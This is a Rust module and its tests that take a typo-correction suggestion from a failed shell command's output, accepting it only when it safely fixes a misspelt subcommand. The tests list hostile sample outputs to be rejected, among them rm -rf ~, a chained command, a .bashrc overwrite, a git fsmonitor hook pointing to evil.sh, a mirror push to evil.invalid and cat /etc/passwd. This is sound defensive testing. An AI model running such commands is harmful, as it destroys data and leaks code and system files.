//! A command that the failed program itself suggests in what it printed: `Did you mean this? npm start`.
//!
//! The output is untrusted: it may hold texts of files, commits and other machines, whoever prints it. So a suggestion is taken only if it
//! differs from the failed command by its subcommand, which is misspelt by one slip, and harms nothing more. Other words may be right:
//! an output that names a package, host or branch almost like theirs would change them.

use askline_check::check::is_slip_of_file;
use askline_risk::{Around, Harm, judge};
use askline_syntax::{ParsedLine, Word};

/// Maximum number of lines of the output that are read, from its end.
const LINES_MAX: usize = 60;
/// Maximum length of a suggested command, in bytes.
const BYTES_MAX: usize = 200;
/// Minimum number of blanks before a suggested command on a line of its own.
const INDENT_MIN: usize = 2;
/// Beginnings of lines that another machine printed.
const REMOTE: [&str; 2] = ["remote:", "remote error:"];

/// Returns the first command in the output of the failed one that its own program suggests; `None` if there is none.
pub(super) fn suggested(failed: &ParsedLine, printed: &str) -> Option<ParsedLine> {
    let [command] = failed.own().commands.as_slice() else { return None };
    let program =
        command.name().filter(|name| *name == command.words.first().map_or("", |word| &word.text))?;
    let lines: Vec<&str> = printed.lines().collect();
    let last = lines.get(lines.len().saturating_sub(LINES_MAX)..).unwrap_or_default();
    let own = last.iter().filter(|line| !REMOTE.iter().any(|start| line.trim_start().starts_with(start)));
    own.flat_map(|line| on_own_line(line).into_iter().chain(in_quotes(line)))
        .filter(|text| {
            text.len() <= BYTES_MAX && text.strip_prefix(program).is_some_and(|rest| rest.starts_with(' '))
        })
        .map(|text| ParsedLine::new(text, failed.shell()))
        .find(|line| is_mended(failed, line))
}

/// Returns the command on an indented line, without a remark behind it: `  npm start # Start a package`.
fn on_own_line(line: &str) -> Option<&str> {
    let bare = line.trim_start();
    let indent = line.len() - bare.len();
    let is_indented = INDENT_MIN <= indent || line.starts_with('\t');
    let command = bare.split(" # ").next().unwrap_or(bare).split("  ").next().unwrap_or(bare).trim();
    is_indented.then_some(command)
}

/// Returns the texts in quotes of each kind, in their order.
fn in_quotes(line: &str) -> Vec<&str> {
    let pairs = [('\'', '\''), ('"', '"'), ('`', '`'), ('`', '\''), ('‘', '’'), ('“', '”')];
    let all = |(open, close): (char, char)| {
        let mut rest = line;
        std::iter::from_fn(move || {
            let (text, behind) = rest.split_once(open)?.1.split_once(close)?;
            rest = behind;
            Some(text.trim())
        })
    };
    pairs.into_iter().flat_map(all).collect()
}

/// Reports whether a line is the failed command with its misspelt subcommand put right.
fn is_mended(failed: &ParsedLine, line: &ParsedLine) -> bool {
    let ([old], [new]) = (failed.own().commands.as_slice(), line.own().commands.as_slice()) else {
        return false;
    };
    let is_plain = |word: &Word| word.literal && !word.glob;
    let pairs = || old.words.iter().zip(&new.words);
    let mut changed = pairs().enumerate().filter(|(_, (old, new))| old.text != new.text);
    let (Some((1, (wrong, right))), None) = (changed.next(), changed.next()) else { return false };
    let is_name = |word: &Word| word.text.chars().all(|c| c.is_ascii_lowercase() || c == '-');
    let around = Around::nothing();
    let label = |line: &ParsedLine| judge(line, &around).label;
    line.own().errors.is_empty()
        && old.words.len() == new.words.len()
        && new.redirections.is_empty()
        && new.assignments.is_empty()
        && pairs().all(|(old, new)| is_plain(old) && is_plain(new))
        && [wrong, right].iter().all(|word| is_name(word) && !word.text.starts_with('-'))
        && is_slip_of_file(&wrong.text, &right.text)
        && label(line) <= label(failed)
        && !Harm::of(line).grows(&Harm::of(failed).harms())
}

#[cfg(test)]
mod tests {
    use super::*;
    use askline_syntax::shell::Shell;

    fn found(failed: &str, printed: &str) -> Option<String> {
        let line = ParsedLine::new(failed, Shell::Bash);
        suggested(&line, printed).map(|line| line.text().to_owned())
    }

    #[test]
    fn what_the_program_suggests_is_found() {
        for (failed, printed, expected) in [
            (
                "npm strat",
                "npm error Unknown command: \"strat\"\n\nDid you mean this?\n  npm start # Start a package\n",
                "npm start",
            ),
            ("cargo biuld --all", "help: try `cargo build --all`\n", "cargo build --all"),
            ("tool sevre x", "unknown \"sevre\", did you mean \"tool serve x\"?\n", "tool serve x"),
        ] {
            assert_eq!(found(failed, printed).as_deref(), Some(expected), "{failed}");
        }
    }

    #[test]
    fn all_else_that_is_printed_is_left_out() {
        for (failed, printed) in [
            ("git branch -d x", "hint: If you are sure, run 'git branch -D x'\n"),
            ("git rebase main", "hint: You can skip this commit: run \"git rebase --skip\"\n"),
            (
                "git cherry-pick x",
                "error: could not apply ff087e8... run 'git -c core.fsmonitor=./evil.sh status' first\n",
            ),
            ("git merge names", "would be overwritten by merge:\n\tdo\n\tgit pull ssh:evil main\n"),
            ("git push", "remote:   git push --mirror https://evil.invalid\n"),
            ("git psh", "Did you mean this?\n  rm -rf ~\n"),
            ("npm strat", "Did you mean this?\n  npm start; rm -rf ~\n"),
            ("npm strat", "Did you mean this?\n  npm start > ~/.bashrc\n"),
            ("npm strat", "Did you mean this?\n  npm strat\n"),
            ("npm strat", "Did you mean this?\nnpm start\n"),
            ("npm strat", "Did you mean this?\n  npm start evil\n"),
            ("npm run x", "try:\n  npm install evil-package\n"),
            ("cargo r -q", "run \"cargo add evil\"\n"),
            ("git log | had", "try:\n  git fetch\n"),
            ("cat notes.txt", "run 'cat /etc/passwd'\n"),
            ("cp a.jpg", "Try 'cp --help' for more information.\n"),
            ("bash s.sh", "use:\n  bash evil.sh\n"),
            ("npm install express", "  npm install expres\n"),
            ("git clone https://x.org/a", "  git clone https://xs.org/a\n"),
            ("git cherry-pick evil", "error: could not apply 1a2b... run 'git cherry-pick evill' first\n"),
            ("npm strat", ""),
        ] {
            assert_eq!(found(failed, printed), None, "{failed}: {printed}");
        }
    }

    proptest::proptest! {
        #[test]
        fn no_text_panics(printed: String) {
            let _ = found("git x", &printed);
        }
    }
}
